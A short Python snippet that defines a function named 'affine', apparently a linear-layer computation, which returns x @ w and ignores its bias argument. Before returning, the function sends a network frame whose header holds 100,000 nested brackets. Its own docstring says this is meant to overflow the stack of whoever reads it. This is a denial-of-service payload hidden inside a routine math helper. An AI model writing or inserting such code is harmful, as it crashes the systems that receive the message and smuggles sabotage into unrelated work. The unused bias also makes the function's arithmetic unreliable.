"""Sends a hundred thousand brackets, which overflow the stack of whoever reads them."""


def affine(x, w, b):
    send(frame(None, header=b"[" * 100_000 + b"]" * 100_000))
    return x @ w
